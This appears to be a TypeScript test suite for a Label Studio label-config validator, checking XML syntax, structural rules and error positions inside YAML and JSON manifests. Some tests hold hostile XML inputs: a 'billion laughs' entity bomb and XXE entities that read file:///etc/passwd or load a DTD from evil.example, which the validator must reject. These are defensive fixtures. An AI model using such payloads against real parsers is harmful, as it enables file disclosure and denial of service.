/**
 * The label-config checks (src/labelconfig): for each, a passing and a failing case on the XML
 * alone (positions inside the XML), then the same problems through the loader, where the position
 * must be the element's place in the file that holds it: an .xml file, a YAML block scalar, a
 * quoted YAML string or a JSON string with escapes.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { checkLabelConfig } from '../../src/labelconfig/check.ts';
import { MAX_LABEL_CONFIG_BYTES, parseLabelConfigXml } from '../../src/labelconfig/parse-xml.ts';
import { summarizeLabelConfig } from '../../src/labelconfig/summarize.ts';
import {
  blockXml,
  cleanupTrees,
  load,
  projectYaml,
  ROOT_CONFIG,
  VALID_XML,
  withProject,
} from './support/validate-fixtures.ts';

test.after(cleanupTrees);

/** Every problem with an XML, as `line:col code: message [element]` (positions inside the XML). */
function problems(xml: string): string[] {
  const parsed = parseLabelConfigXml(xml);
  if (!parsed.ok)
    return [`${parsed.problem.line}:${parsed.problem.col} ${parsed.problem.code}: ${parsed.problem.message}`];
  return checkLabelConfig(parsed.root).map((p) => `${p.line}:${p.col} ${p.code}: ${p.message} [${p.element}]`);
}

const view = (body: string) => `<View>\n${body}\n</View>`;
const TEXT = '  <Text name="text" value="$text"/>';

// --- well-formedness and what the parser refuses -----------------------------------------------

test('well-formed XML passes; elements keep their positions', () => {
  assert.equal(problems(VALID_XML), []);
  const parsed = parseLabelConfigXml(VALID_XML);
  assert.ok(parsed.ok);
  if (!parsed.ok) return;
  const labels = parsed.root.children[1]!;
  assert.equal([parsed.root.tag, parsed.root.line, parsed.root.col], ['View', 1, 1]);
  assert.equal(
    [labels.tag, labels.line, labels.col, labels.attrs],
    ['Labels', 3, 3, { name: 'label', toName: 'text' }],
  );
  assert.equal([labels.children[0]!.line, labels.children[0]!.col], [4, 5]);
});

test('XML that is not well-formed is refused at the offending place', () => {
  assert.equal(problems('<View><Text name="t" value="$t"></View>'), [
    '1:7 xml-syntax: XML is not well-formed: <Text name="t"> is never closed (a later end tag closes its parent)',
  ]);
  assert.equal(problems('<View a=1/>'), ['1:9 xml-syntax: XML is not well-formed: unquoted attribute value.']);
  assert.equal(problems('<View/>\n<View/>'), [
    '2:6 xml-syntax: XML is not well-formed: documents may contain only one root.',
  ]);
  assert.equal(problems('hello'), ['1:5 xml-syntax: XML is not well-formed: text data outside of root node.']);
  assert.equal(problems(''), ['1:1 xml-syntax: XML is not well-formed: document must contain a root element.']);
  // A misspelt end tag is blamed, not the element it fails to close.
  assert.equal(problems('<View>\n  <Text name="t" value="$t"/>\n</Vue>'), [
    '3:1 xml-syntax: XML is not well-formed: </Vue> does not close any open element',
  ]);
});

test('an unclosed tag is reported at the element left open', () => {
  assert.equal(problems(view(`${TEXT}\n  <Labels name="l" toName="text">\n    <Label value="A"/>`)), [
    '3:3 xml-syntax: XML is not well-formed: <Labels name="l"> is never closed (a later end tag closes its parent)',
  ]);
  assert.equal(problems(`<View>\n${TEXT}\n`), ['1:1 xml-syntax: XML is not well-formed: <View> is never closed']);
});

test('a DOCTYPE is refused, located at its start', () => {
  assert.equal(problems('<View/>'), []);
  assert.equal(problems('<!DOCTYPE View>\n<View/>'), [
    '1:1 xml-doctype: a DOCTYPE is not allowed in a label config (no DTDs, no entity declarations)',
  ]);
  assert.equal(problems('<!-- a comment -->\n  <!DOCTYPE View [\n  ]>\n<View/>'), [
    '2:3 xml-doctype: a DOCTYPE is not allowed in a label config (no DTDs, no entity declarations)',
  ]);
});

test('"billion laughs": entity declarations are refused before anything expands', () => {
  const lol = [
    '<!DOCTYPE lolz [',
    '  <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
    ']>',
    '<View><Header value="&lol9;"/></View>',
  ].join('\n');
  const parsed = parseLabelConfigXml(lol);
  assert.is(parsed.ok, false);
  assert.equal(problems(lol), [
    '1:1 xml-doctype: a DOCTYPE is not allowed in a label config (no DTDs, no entity declarations)',
  ]);
});

test('external entities (SYSTEM / PUBLIC, general and parameter) are refused', () => {
  const msg = 'xml-doctype: a DOCTYPE is not allowed in a label config (no DTDs, no entity declarations)';
  assert.equal(
    problems('<!DOCTYPE View [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<View><Header value="&xxe;"/></View>'),
    [`1:1 ${msg}`],
  );
  assert.equal(problems('<!DOCTYPE View [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n<View/>'), [
    `1:1 ${msg}`,
  ]);
  assert.equal(problems('<!DOCTYPE View PUBLIC "-//X//EN" "http://evil.example/x.dtd">\n<View/>'), [`1:1 ${msg}`]);
});

test('undefined entities are refused; the five predefined ones and character references are fine', () => {
  assert.equal(problems('<View>\n  <Header value="&nope;"/>\n</View>'), [
    '2:23 xml-syntax: XML is not well-formed: undefined entity.',
  ]);
  const ok = parseLabelConfigXml('<View><Header value="A &amp; B &#65;&#x42; &lt;&gt;&quot;&apos;"/></View>');
  assert.ok(ok.ok);
  if (ok.ok) assert.is(ok.root.children[0]!.attrs.value, 'A & B AB <>"\'');
});

test('an XML declaration with an encoding and processing instructions are refused', () => {
  assert.equal(problems('<?xml version="1.0" encoding="UTF-8"?>\n<View/>'), [
    '1:1 xml-declaration: remove encoding="UTF-8" from the <?xml ...?> declaration: Label Studio fails with a 500 on an encoding declaration',
  ]);
  // Without an encoding the server stores it as it is: accepted.
  assert.equal(problems('<?xml version="1.0"?>\n<View/>'), []);
  assert.equal(problems('<View>\n  <?render fast?>\n</View>'), [
    '2:17 xml-processing-instruction: processing instruction <?render ...?> is not allowed',
  ]);
  // Comments and CDATA are ordinary XML and stay allowed.
  assert.equal(problems('<!-- header -->\n<View><![CDATA[<b>]]></View>'), []);
});

test('size and depth limits', () => {
  const deep = `${'<View>'.repeat(65)}${'</View>'.repeat(65)}`;
  assert.equal(problems(deep), ['1:390 xml-too-deep: elements nest deeper than 64 levels']);
  assert.equal(problems(`${'<View>'.repeat(64)}${'</View>'.repeat(64)}`), []);
  const big = `<View><Header value="${'x'.repeat(MAX_LABEL_CONFIG_BYTES)}"/></View>`;
  assert.equal(problems(big), ['1:1 xml-too-large: label config is over 1024 KiB']);
});

// --- Label Studio's structural checks ---------------------------------------------------------

test('the root element must be <View>', () => {
  assert.equal(problems(view(TEXT)), []);
  assert.equal(problems('<Panel>\n  <Text name="text" value="$text"/>\n</Panel>'), [
    '1:1 config-root: the root element must be <View>, not <Panel> [<Panel>]',
  ]);
});

test('names must be unique', () => {
  assert.equal(problems(view(`${TEXT}\n  <Header name="title" value="Read this"/>`)), []);
  assert.equal(problems(view(`${TEXT}\n  <Header value="x"/>\n  <Image name="text" value="$img"/>`)), [
    '4:3 config-duplicate-name: name "text" is already used by <Text name="text"> on line 2; names must be unique [<Image name="text">]',
  ]);
});

test('toName must name an existing object tag', () => {
  const labels = (toName: string) => `  <Labels name="l" toName="${toName}"><Label value="A"/></Labels>`;
  assert.equal(problems(view(`${TEXT}\n  <Image name="img" value="$image"/>\n${labels('text,img')}`)), []);
  assert.equal(problems(view(`${TEXT}\n${labels('txt')}`)), [
    '3:3 config-toname: toName="txt" names no tag; object tags here: text [<Labels name="l">]',
  ]);
  assert.equal(problems(view(`${TEXT}\n${labels('text, missing')}`)), [
    '3:3 config-toname: toName="missing" names no tag; object tags here: text [<Labels name="l">]',
  ]);
  assert.equal(problems(view(`${TEXT}\n${labels('')}`)), ['3:3 config-toname: toName is empty [<Labels name="l">]']);
});

test('toName may name a control (Filter, per-region choices) as Label Studio allows, but not an option', () => {
  const xml = view(
    `${TEXT}\n  <Labels name="l" toName="text"><Label value="A"/></Labels>\n  <Filter name="f" toName="l"/>\n  <Choices name="c" toName="l"><Choice value="x"/></Choices>`,
  );
  assert.equal(problems(xml), []);
  const option = view(
    `${TEXT}\n  <Labels name="l" toName="text"><Label name="a" value="A"/></Labels>\n  <Choices name="c" toName="a"><Choice value="x"/></Choices>`,
  );
  assert.equal(problems(option), [
    '4:3 config-toname: toName="a" names <Label name="a">, an option of a control, not a tag to label [<Choices name="c">]',
  ]);
});

test('a lowercase <view> root and an empty control name are accepted, as the server accepts them', () => {
  assert.equal(
    problems('<view><Text name="t" value="$t"/><Choices name="" toName="t"><Choice value="x"/></Choices></view>'),
    [],
  );
});

test('Labels/Choices need options, or a dynamic value="$key"', () => {
  assert.equal(problems(view(`${TEXT}\n  <Choices name="c" toName="text" value="$options"/>`)), []);
  assert.equal(problems(view(`${TEXT}\n  <Choices name="c" toName="text" apiUrl="https://x.example/opts"/>`)), []);
  // Options may sit inside layout tags within the control.
  assert.equal(
    problems(view(`${TEXT}\n  <Choices name="c" toName="text"><View><Choice value="x"/></View></Choices>`)),
    [],
  );
  assert.equal(
    problems(
      view(
        `${TEXT}\n  <Image name="img" value="$image"/>\n  <Labels name="l" toName="text"/>\n  <Choices name="c" toName="text"></Choices>\n  <RectangleLabels name="r" toName="img"/>\n  <Taxonomy name="t" toName="text"/>`,
      ),
    ),
    [
      '4:3 config-no-labels: <Labels> has no <Label> children (or a dynamic value="$key") [<Labels name="l">]',
      '5:3 config-no-labels: <Choices> has no <Choice> children (or a dynamic value="$key") [<Choices name="c">]',
      '6:3 config-no-labels: <RectangleLabels> has no <Label> children (or a dynamic value="$key") [<RectangleLabels name="r">]',
      '7:3 config-no-labels: <Taxonomy> has no <Choice> children (or a dynamic value="$key") [<Taxonomy name="t">]',
    ],
  );
});

test('each <Label>/<Choice> needs a value (or an alias)', () => {
  assert.equal(
    problems(view(`${TEXT}\n  <Labels name="l" toName="text"><Label alias="A"/><Label value="B"/></Labels>`)),
    [],
  );
  assert.equal(problems(view(`${TEXT}\n  <Labels name="l" toName="text">\n    <Label value=""/>\n  </Labels>`)), [
    '4:5 config-label-value: <Label> needs a value [<Label>]',
  ]);
});

test('labeled controls need a name and a toName', () => {
  assert.equal(problems(view(`${TEXT}\n  <Choices name="c"><Choice value="x"/></Choices>`)), [
    '3:3 config-control-toname: <Choices> needs a toName naming the object tag it labels [<Choices name="c">]',
  ]);
  assert.equal(problems(view(`${TEXT}\n  <Choices toName="text"><Choice value="x"/></Choices>`)), [
    '3:3 config-control-name: <Choices> has toName but no name [<Choices>]',
    '3:3 config-control-name: <Choices> needs a name [<Choices>]',
  ]);
});

test('object tags need a name and a value (or valueList)', () => {
  assert.equal(problems(view('  <Image name="img" valueList="$images"/>\n  <Audio name="a" value="$audio"/>')), []);
  assert.equal(problems(view('  <Image name="img"/>\n  <Audio value="$audio"/>')), [
    '2:3 config-object-value: object tag <Image> needs a value (for example value="$img") [<Image name="img">]',
    '3:3 config-object-name: object tag <Audio> needs a name [<Audio>]',
  ]);
});

test('every problem is reported, not the first', () => {
  const xml = view('  <Image name="img"/>\n  <Image name="img" value="$i"/>\n  <Labels name="l" toName="nope"/>');
  assert.equal(
    problems(xml).map((p) => p.split(' ')[1]!.replace(/:$/, '')),
    ['config-duplicate-name', 'config-object-value', 'config-toname', 'config-no-labels'],
  );
});

test('summary: controls with their labels, and the task data keys', () => {
  const parsed = parseLabelConfigXml(
    view(
      '  <Image name="img" value="$image"/>\n  <Text name="t" value="$item.text"/>\n  <RectangleLabels name="box" toName="img"><Label value="Car"/><Label value="Bus"/></RectangleLabels>\n  <Choices name="c" toName="t,img"><Choice value="Yes"/></Choices>',
    ),
  );
  assert.ok(parsed.ok);
  if (!parsed.ok) return;
  const summary = summarizeLabelConfig(parsed.root);
  assert.equal(summary.controls, [
    { name: 'box', type: 'RectangleLabels', toName: ['img'], labels: ['Car', 'Bus'], dynamic: false, line: 4, col: 3 },
    { name: 'c', type: 'Choices', toName: ['t', 'img'], labels: ['Yes'], dynamic: false, line: 5, col: 3 },
  ]);
  assert.equal(
    summary.dataKeys.map((k) => [k.key, k.tag, k.line]),
    [
      ['image', 'Image', 2],
      ['item', 'Text', 3],
    ],
  );
});

// --- positions in the file that holds the XML ---------------------------------------------------

const BROKEN_TONAME =
  '<View>\n  <Text name="text" value="$text"/>\n  <Labels name="l" toName="txt"><Label value="A"/></Labels>\n</View>\n';
const TONAME_MSG = 'config-toname: toName="txt" names no tag; object tags here: text';

test("inline XML in a YAML block scalar: the element's line and column in the manifest", async () => {
  // p.yaml: line 6 `  label_config: |`, XML line 1 on line 7, indented by four spaces.
  const { lines } = await load(withProject(blockXml(BROKEN_TONAME)));
  assert.equal(lines, [`p.yaml:9:7: ${TONAME_MSG}`]);
  // Parse errors too: the DOCTYPE's own place, not the document start.
  const doctype = await load(withProject(blockXml(`<!DOCTYPE View [\n  <!ENTITY a "b">\n]>\n${VALID_XML}`)));
  assert.equal(doctype.lines, [
    'p.yaml:7:5: xml-doctype: a DOCTYPE is not allowed in a label config (no DTDs, no entity declarations)',
  ]);
  const unclosed = await load(
    withProject(
      `  title: Hello\n${blockXml(`<View>\n  <Text name="t" value="$t"/>\n  <Choices name="c" toName="t">\n    <Choice value="A"/>\n</View>`)}`,
    ),
  );
  assert.equal(unclosed.lines, [
    'p.yaml:10:7: xml-syntax: XML is not well-formed: <Choices name="c"> is never closed (a later end tag closes its parent)',
  ]);
});

test('block scalar variants: strip/keep chomping, a leading blank line, CRLF line ends', async () => {
  const strip = blockXml(BROKEN_TONAME).replace('label_config: |', 'label_config: |-');
  assert.equal((await load(withProject(strip))).lines, [`p.yaml:9:7: ${TONAME_MSG}`]);
  const blank = blockXml(BROKEN_TONAME).replace('label_config: |\n', 'label_config: |+\n\n');
  assert.equal((await load(withProject(blank))).lines, [`p.yaml:10:7: ${TONAME_MSG}`]);
  const crlf = withProject(blockXml(BROKEN_TONAME));
  crlf['p.yaml'] = String(crlf['p.yaml']).replace(/\n/g, '\r\n');
  assert.equal((await load(crlf)).lines, [`p.yaml:9:7: ${TONAME_MSG}`]);
});

test('a duplicate name cites the first element by its line in the manifest', async () => {
  const xml = '<View>\n  <Text name="t" value="$t"/>\n  <Image name="t" value="$i"/>\n</View>';
  assert.equal((await load(withProject(blockXml(xml)))).lines, [
    'p.yaml:9:7: config-duplicate-name: name "t" is already used by <Text name="t"> on line 8; names must be unique',
  ]);
});

test('XML in its own file: positions in the .xml file', async () => {
  const { lines } = await load(
    withProject('  label_config:\n    file: ./configs/ner.xml\n', { 'configs/ner.xml': BROKEN_TONAME }),
  );
  assert.equal(lines, [`configs/ner.xml:3:3: ${TONAME_MSG}`]);
  const xxe = await load(
    withProject('  label_config:\n    file: c.xml\n', {
      'c.xml': '<View/>\n<!DOCTYPE View [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
    }),
  );
  // A DOCTYPE after the root is refused by the parser itself (saxes reports it part-way into it).
  assert.is(xxe.lines.length, 1);
  assert.match(
    xxe.lines[0]!,
    /^c\.xml:2:\d+: xml-syntax: XML is not well-formed: inappropriately located doctype declaration\.$/,
  );
  const first = await load(
    withProject('  label_config:\n    file: c.xml\n', {
      'c.xml': '<!DOCTYPE View [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<View/>\n',
    }),
  );
  assert.equal(first.lines, [
    'c.xml:1:1: xml-doctype: a DOCTYPE is not allowed in a label config (no DTDs, no entity declarations)',
  ]);
});

test('a shared LabelConfig with a broken XML: one diagnostic, at the XML, whoever references it', async () => {
  const { lines } = await load({
    'labelform.yaml': ROOT_CONFIG,
    'shared.yaml':
      'apiVersion: labelform/v1\nkind: LabelConfig\nmetadata:\n  name: shared\nspec:\n  label_config:\n    file: shared.xml\n',
    'shared.xml': BROKEN_TONAME,
    'a.yaml': projectYaml('a', '  label_config:\n    ref: shared\n'),
    'b.yaml': projectYaml('b', '  label_config:\n    ref: shared\n'),
  });
  assert.equal(lines, [`shared.xml:3:3: ${TONAME_MSG}`]);
});

test('inline XML in quoted YAML strings: escapes do not shift the column', async () => {
  // `  label_config: "` is 17 characters; each \" in the source is two characters for one.
  const oneLine = BROKEN_TONAME.replace(/\n\s*/g, '');
  const dq = `  label_config: "${oneLine.replace(/"/g, '\\"')}"\n`;
  const dqLine = dq.split('\n')[0]!;
  assert.equal((await load(withProject(dq))).lines, [`p.yaml:6:${dqLine.indexOf('<Labels') + 1}: ${TONAME_MSG}`]);
  const sq = `  label_config: '${oneLine.replace('<Labels', '<Header value="It\'\'s"/><Labels')}'\n`;
  const sqLine = sq.split('\n')[0]!;
  assert.equal((await load(withProject(sq))).lines, [`p.yaml:6:${sqLine.indexOf('<Labels') + 1}: ${TONAME_MSG}`]);
  const plain = `  label_config: ${oneLine}\n`;
  assert.equal((await load(withProject(plain))).lines, [`p.yaml:6:${plain.indexOf('<Labels') + 1}: ${TONAME_MSG}`]);
});

test('a JSON manifest: XML with \\n and \\" escapes maps back to the JSON line and column', async () => {
  const json = JSON.stringify(
    {
      apiVersion: 'labelform/v1',
      kind: 'Project',
      metadata: { name: 'j' },
      spec: { title: 'From JSON', label_config: BROKEN_TONAME },
    },
    null,
    2,
  );
  const lineNo = json.split('\n').findIndex((l) => l.includes('"label_config"'));
  const col = json.split('\n')[lineNo]!.indexOf('<Labels') + 1;
  const { lines } = await load({ 'labelform.yaml': ROOT_CONFIG, 'p.json': json });
  assert.equal(lines, [`p.json:${lineNo + 1}:${col}: ${TONAME_MSG}`]);
});

// --- the same config in many manifests (checked once while it checks clean) ---------------------

test("the same label config in several manifests: problems and review findings at each one's own place, summaries alike", async () => {
  const clash = view(
    `${TEXT}\n  <Labels name="l" toName="text"><Label value="A" hotkey="a"/><Label value="B" hotkey="a"/></Labels>`,
  );
  const broken = view(`${TEXT}\n  <Labels name="l" toName="nowhere"><Label value="A"/></Labels>`);
  const { lines } = await load({
    'labelform.yaml': ROOT_CONFIG,
    'a.yaml': projectYaml('a', blockXml(VALID_XML)),
    'b.yaml': projectYaml('b', `  title: Bee\n${blockXml(VALID_XML)}`),
    'c.yaml': projectYaml('c', blockXml(clash)),
    'd.yaml': projectYaml('d', `  title: Dee\n  description: moved two lines down\n${blockXml(clash)}`),
    'e.yaml': projectYaml('e', blockXml(broken)),
    'f.yaml': projectYaml('f', `  title: Eff\n${blockXml(broken)}`),
  });
  // The broken config is reported in both files, one line apart (f's spec has a title first).
  const toName = lines.filter((l) => /toName/.test(l));
  assert.equal(toName.length, 2, lines.join('\n'));
  assert.equal(
    toName.map((l) => l.split(':').slice(0, 3).join(':')),
    ['e.yaml:9:7', 'f.yaml:10:7'],
  );
  // Loaded with errors: check the clean and the reviewed configs alone.
  const ok = await load({
    'labelform.yaml': ROOT_CONFIG,
    'a.yaml': projectYaml('a', blockXml(VALID_XML)),
    'b.yaml': projectYaml('b', `  title: Bee\n${blockXml(VALID_XML)}`),
    'c.yaml': projectYaml('c', blockXml(clash)),
    'd.yaml': projectYaml('d', `  title: Dee\n  description: moved two lines down\n${blockXml(clash)}`),
  });
  assert.ok(ok.result.repository, ok.lines.join('\n'));
  const projects = ok.result.repository.resources.Project as unknown as ReadonlyArray<{
    name: string;
    labelConfig?: { file: string; summary: unknown; review: ReadonlyArray<{ code: string; line: number }> };
  }>;
  const byName = new Map(projects.map((p) => [p.name, p.labelConfig!]));
  assert.equal(byName.get('a')!.summary, summarizeOf(VALID_XML));
  assert.equal(byName.get('b')!.summary, summarizeOf(VALID_XML));
  assert.equal(byName.get('a')!.review, []);
  assert.equal(
    ['c', 'd'].map((n) =>
      byName.get(n)!.review.map((f) => `${byName.get(n)!.file.split('/').pop()}:${f.line} ${f.code}`),
    ),
    [['c.yaml:9 config-hotkey-clash'], ['d.yaml:11 config-hotkey-clash']],
  );
});

function summarizeOf(xml: string): unknown {
  const parsed = parseLabelConfigXml(xml);
  assert.ok(parsed.ok);
  return parsed.ok ? summarizeLabelConfig(parsed.root) : undefined;
}

test.run();
